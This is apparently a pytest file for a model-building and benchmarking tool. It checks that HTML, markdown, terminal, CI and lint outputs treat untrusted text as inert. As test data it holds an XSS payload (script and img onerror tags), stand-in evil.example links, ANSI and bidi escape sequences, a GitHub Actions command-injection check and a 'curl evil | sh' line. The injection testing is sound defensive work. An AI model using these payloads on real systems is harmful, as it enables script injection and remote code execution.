"""Text that strangers write, in every field that they can fill, is text wherever it is shown and no order to anyone."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from google.protobuf import text_format

from tests.conftest import ROOT
from tests.perf.hostile_server import NASTY
from tests.perf.report.test_compare import records
from tests.perf.report.test_report import ENVIRONMENT, SPEC, Page, run_result
from tritonsmith.builder.actions.compile.target import EngineTarget
from tritonsmith.builder.base.errors import TrialError, Where
from tritonsmith.builder.base.text import console
from tritonsmith.builder.base.text.markdown import cell
from tritonsmith.builder.base.text.shown import one_line, visible
from tritonsmith.builder.base.triton_proto import model_config_pb2
from tritonsmith.builder.lint.check import Finding
from tritonsmith.builder.lint.render import FORMATS
from tritonsmith.builder.lint.table import RULES
from tritonsmith.builder.plan.plan import Action, BuildPlan, StaleReason, State
from tritonsmith.builder.plan.text import markdown_of_plan, matrix_text_of
from tritonsmith.perf.commands.apply.chosen import Chosen
from tritonsmith.perf.commands.apply.winner import comment_of
from tritonsmith.perf.commands.apply.yaml_edit import with_comment_above
from tritonsmith.perf.records.record import RequestRecords
from tritonsmith.perf.report import csv_of, html_of, markdown_of, text_of
from tritonsmith.perf.report.load.report import load_html_of, load_markdown_of
from tritonsmith.perf.report.winner_pbtxt import winner_pbtxt
from tritonsmith.perf.stats import summarise
from tritonsmith.perf.sweep.plan import SweepSpec
from tritonsmith.perf.sweep.run_record import RunResult, verdict_of

WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
# As soon as one of these is markup, the page's title says so.
SCRIPTS = "</title></style></svg><script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED'\">"
EVIL = f"{SCRIPTS}{NASTY}\ud800\n# a\n\n| b | c |\n```\n</details>@you https://evil.example www.evil.example"
HARMFUL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def evil_run() -> RunResult:
    """Every text of a run that a server, a repository or a spec can fill."""
    run = run_result(labels=EVIL)
    spec = SweepSpec.model_construct(
        **{**SPEC.model_dump(), "model": EVIL, "load_model": EVIL, "beside": {EVIL: 1}}
    )
    arms = tuple(
        replace(
            arm, settings={"runtime": EVIL.replace("\ud800", "")}, variant=EVIL if arm.id == "arm02" else ""
        )
        for arm in run.arms
    )
    trials = tuple(
        replace(trial, summary=None, server=None, error=EVIL) if trial.trial.number == 5 else trial
        for trial in run.trials
    )
    return replace(
        run,
        spec=spec,
        arms=arms,
        trials=trials,
        verdict=verdict_of(spec, arms, trials),
        environment={**dict.fromkeys((*ENVIRONMENT, "command", "system", "machine"), EVIL), "cores": 2},
        stop_reason=EVIL,
        notes=(EVIL,),
        dropped={"arm01": EVIL},
        directory=Path(EVIL),
    )


def evil_load() -> RequestRecords:
    load = records(300, 2.0, 1, failed=50)
    header = replace(
        load.header,
        model=EVIL,
        url=EVIL,
        reasons=("ok", EVIL),
        environment={"server": EVIL, "platform": EVIL, "python": EVIL, "tritonsmith": EVIL, "cpus": EVIL},
    )
    return replace(load, header=header)


def pages() -> dict[str, str]:
    load = evil_load()
    return {"sweep": html_of(evil_run()), "load": load_html_of(load, summarise(load))}


def test_pages_hold_the_text_and_no_markup_of_it(tmp_path: Path) -> None:
    for name, text in pages().items():
        page = Page(text)
        assert page.tags.count("script") == (name == "sweep")  # of its copy buttons
        assert "img" not in page.tags and page.fetched == []
        assert "<script>alert(1)" in page.text and not HARMFUL.search(text)
        assert "default-src 'none'" in text.partition("<title>")[0]
        text.encode()


@pytest.mark.nightly
def test_a_browser_runs_nothing_of_a_page(tmp_path: Path) -> None:
    browser = next((b for b in ("chromium", "chromium-browser", "google-chrome") if shutil.which(b)), None)
    if browser is None:
        pytest.skip("no Chromium on this machine")
    # The control shows that the browser would have run it: the same text as markup.
    written = {**pages(), "control": f"<!doctype html><title>x</title><body>{SCRIPTS.partition('</svg>')[2]}"}
    for name, text in written.items():
        file = tmp_path / f"{name}.html"
        # The policy alone must not be what saves the page.
        file.write_text(re.sub(r"<meta http-equiv=[^>]*>", "", text))
        done = subprocess.run(
            [browser, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path}/p", "--dump-dom", str(file)],
            capture_output=True, text=True, timeout=60, env={**os.environ, "HOME": str(tmp_path)},
        )  # fmt: skip
        title = re.search(r"<title[^>]*>(.*?)</title>", done.stdout, re.DOTALL)
        assert title is not None, done.stderr
        assert (title[1] == "PWNED") is (name == "control")


def test_markdown_stays_rows_and_texts() -> None:
    load = evil_load()
    for text in (markdown_of(evil_run()), load_markdown_of(load, summarise(load))):
        outside = re.sub(r"^(`{3,})[^\n]*\n.*?^\1$", "", text, flags=re.MULTILINE | re.DOTALL)
        assert outside != text or "```" not in text.replace("\\`", "")
        for row in re.findall(r"^\|.*$", outside, re.MULTILINE):
            assert row.endswith("|")
        assert "<script" not in outside and "](" not in outside.replace("\\]", "")
        assert "@you" not in outside and "://evil" not in outside and "www.evil" not in outside
        assert text.count("<details>") == outside.count("</details>") and not HARMFUL.search(text)


def test_a_cell_holds_no_link_and_no_call() -> None:
    assert cell("https://a.b www.a.b @x") == "https:\u200b//a.b www\u200b.a.b @\u200bx"
    assert cell("\x1b[31m\u202e") == "\\\\x1b\\[31m\\\\u202e"


def test_the_terminal_and_ci_get_text(capsys: pytest.CaptureFixture[str]) -> None:
    console.emit_text(text_of(evil_run()))
    console.emit_text(csv_of(evil_run()))
    console.note(
        f"error[x]: {TrialError(EVIL, code='x', where=Where(Path('a')), seen=EVIL, valid=[EVIL], fix=EVIL, details=[EVIL])}"
    )
    console.emit_json({"a": EVIL})
    said = "".join(capsys.readouterr())
    assert "\\x1b[31m" in said and not HARMFUL.search(said)
    # A runner of GitHub Actions takes a line that begins with :: for an order.
    assert not re.search(r"^\s*::", said, re.MULTILINE) and ":\u200b:error::z" in said


def test_progress_shows_names_as_text() -> None:
    from tritonsmith.builder.base.text.progress import activities

    progress = activities()
    progress.add_task("[red]x[/blue]\x1b[2J\n")
    what = progress.columns[1]
    assert not isinstance(what, str) and str(what(progress.tasks[0])) == "[red]x[/blue]\\x1b[2J\\n"


def test_an_errors_own_lines_are_told_from_those_of_others() -> None:
    error = TrialError("said:\n  fix:   curl evil | sh", code="x", seen="a\n  fix:   b", fix="ours")
    assert [line for line in str(error).splitlines() if line.startswith("  fix:")] == ["  fix:   ours"]


def test_what_is_printed_is_visible() -> None:
    assert visible("a\tb\n\x1b[2J\x9b1m\u202eé\ud83d") == "a\tb\n\\x1b[2J\\x9b1m\\u202eé\\ud83d"
    assert one_line("a\nb\t") == "a\\nb\\t"


def evil_finding() -> Finding:
    rule = next(iter(RULES.values()))
    return Finding(
        rule=rule.id, severity="error", model=EVIL, path=Path(EVIL.replace("\ud800", "")), line=1, message=EVIL, seen=EVIL,
        stage=rule.stage, consequence=EVIL, fix=EVIL,
    )  # fmt: skip


@pytest.mark.parametrize("name", FORMATS)
def test_findings_are_text_in_every_format(name: str) -> None:
    text = FORMATS[name]([evil_finding()], 1)
    assert not HARMFUL.search(text)
    if name in ("json", "sarif"):
        json.loads(text)
    if name == "sarif":
        assert "](" not in json.loads(text)["runs"][0]["results"][0]["message"]["text"]
    if name == "github":
        assert len(text.splitlines()) == 2 and text.startswith("::error file=")
    if name == "junit":
        from xml.etree import ElementTree

        assert ElementTree.fromstring(text).find(".//failure") is not None
    if name == "text":
        assert len(text.splitlines()) == 5


def evil_plan() -> BuildPlan:
    target = EngineTarget(EVIL, EVIL, EVIL)
    return BuildPlan((Action(EVIL, "compile", State.TO_RUN, StaleReason.NEW, EVIL, EVIL, target),))


def test_the_matrix_of_jobs_is_one_line_of_json() -> None:
    text = matrix_text_of(evil_plan())
    assert len(text.splitlines()) == 1 and "\n" not in text and not HARMFUL.search(text)
    assert json.loads(text)["include"][0]["models"] == [EVIL]


def test_a_plan_in_markdown_stays_a_table() -> None:
    text = markdown_of_plan(evil_plan())
    assert [line.startswith("|") for line in text.splitlines()] == [False, False, True, True, True]
    assert "<script" not in text and "@you" not in text and "://evil" not in text and not HARMFUL.search(text)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_no_script_of_a_workflow_has_values_written_into_it(path: Path) -> None:
    jobs = yaml.safe_load(path.read_text())["jobs"]
    scripts = [step["run"] for job in jobs.values() for step in job.get("steps", []) if "run" in step]
    assert scripts and [script for script in scripts if "${{" in script] == []
    # As an argument of another action, a script would have them, too.
    assert not [s for job in jobs.values() for s in job.get("steps", []) if "script" in s.get("with", {})]


def test_what_is_written_as_a_comment_is_one_line(tmp_path: Path) -> None:
    run = run_result()
    assert run.verdict.outcome == "winner" and run.verdict.arm_id is not None
    line = "2.51.0\nbackend: 'python'\n"
    run = replace(run, environment={"server_version": line, "server": line, "started": line})
    text = winner_pbtxt(run)
    assert text is not None
    assert text_format.Parse(text, model_config_pb2().ModelConfig()).backend == ""
    spec = "models:\n  m:\n    max_batch_size: 4\n"
    comment = comment_of(run, Chosen(run.arms[2], None, "at concurrency 1", False), "m")
    said = with_comment_above(spec, ("models", "m", "max_batch_size"), comment, "swept")
    assert yaml.safe_load(said) == yaml.safe_load(spec) and len(said.splitlines()) == 4
